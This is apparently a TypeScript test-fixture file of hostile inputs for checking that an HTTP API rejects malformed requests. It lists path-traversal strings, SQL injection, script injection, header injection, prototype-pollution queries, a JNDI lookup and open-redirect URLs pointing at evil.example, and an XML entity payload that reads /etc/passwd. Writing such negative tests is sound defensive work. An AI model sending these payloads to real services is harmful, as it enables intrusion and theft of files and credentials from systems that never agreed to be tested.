/** Hostile values for a path or query parameter; each is one scalar, percent-encoded. */
export const hostileValues: readonly string[] = [
  '..',
  '..%2f..%2fpackage.json',
  '%252e%252e%252f',
  'a%00.pdf',
  // Overlong encodings of "../" and an invalid first byte: no UTF-8.
  '%c0%ae%c0%ae%c0%af',
  '%ff',
  '%zz',
  'a;b=c',
  '__proto__',
  '%F0%9F%92%A5',
  // Full-width dots and slash, and a right-to-left override.
  '%EF%BC%8E%EF%BC%8E%EF%BC%8F',
  '%E2%80%AE',
  "'%20or%20'1'='1",
  '%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%0d%0aX-Injected:%20yes',
  '$%7Bjndi:ldap:%2F%2Fevil.example%7D',
  '%2F%2Fevil.example',
  '-1',
  '1e309',
  'a'.repeat(20_000),
]

/** Variants of a URL that a careless parser reads as another one. */
export const addressTricks: readonly ((path: string) => string)[] = [
  (path) => `//evil.example${path}`,
  (path) => path.replaceAll('/', '//'),
  (path) => path.replaceAll('/', '%2f').replace('%2f', '/'),
  (path) => path.replaceAll('/', '\\').replace('\\', '/'),
  (path) => `/x/..${path}`,
  (path) => `${path}/`,
  (path) => `${path}/..%2f`,
  (path) => `${path}%00.json`,
  (path) => `${path}%0d%0aX-Injected:%20yes`,
  (path) => `${path}.json`,
  (path) => path.toUpperCase(),
  (path) => path.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
  (path) => `${path}?${'a=b&'.repeat(3000)}`,
]

/** Queries that a careless parameter parser misreads. */
export const hostileQueries: readonly string[] = [
  '__proto__[isAdministrator]=true',
  'page=1&page=2&page=3',
  'size[$gt]=0',
  'filters=__proto__:eq:1',
  'sorters=constructor:asc',
  'fields=__proto__,password_hash',
  'fq=%7B%22__proto__%22:1%7D',
  `fq=${'%5B'.repeat(25)}${'%5D'.repeat(25)}`,
  'page=1e309&size=-1',
  'token=AAAA&access_token=BBBB&authorization=CCCC',
  '_method=DELETE',
  'redirect_url=//evil.example&redirectUrl=javascript:alert(1)',
  '%zz=%zz',
  'q=%ff%fe',
]

/** A body and its claimed type. */
export type HostileBody = readonly [type: string | undefined, body: string | Buffer]

const json = 'application/json'

/** Depth 25: five levels more than a body may have. */
const tooDeep = '['.repeat(25) + ']'.repeat(25)
const twoMegabytes = 2 * 1024 * 1024

/** Bodies that no call accepts, whatever its fields are. */
export const hostileBodies: readonly HostileBody[] = [
  [json, '{"a":'],
  [json, '{"__proto__":{"isAdministrator":true}}'],
  [json, `{"id":${tooDeep}}`],
  [json, JSON.stringify({ id: 'a'.repeat(twoMegabytes) })],
  // No UTF-8.
  [json, Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d])],
  [`${json}; charset=utf-16`, Buffer.from('{"id":"1"}', 'utf16le')],
  ['application/xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
  [undefined, '{"id":"1"}'],
  ['multipart/form-data; boundary=a', '--a\r\nContent-Disp'],
  ['application/x-www-form-urlencoded', '__proto__[a]=1&__proto__=2'],
]

/** Well-formed JSON bodies without any field of a call. */
export const emptyBodies = ['null', '[]', '"text"', 'true', '{}', '[{}]', '1e999'].map(
  (body): HostileBody => [json, body],
)

/** Values of a wrong type for a body's fields. */
export const hostileScalars: readonly unknown[] = [
  null,
  ['a', 'b'],
  { $ne: '' },
  -1,
  1e300,
  true,
  '',
  '\0',
  'a\r\nX-Injected: yes',
  '\ud800',
  '\u202e\ufeff',
  '__proto__',
  "' or '1'='1",
  'a'.repeat(5000),
]
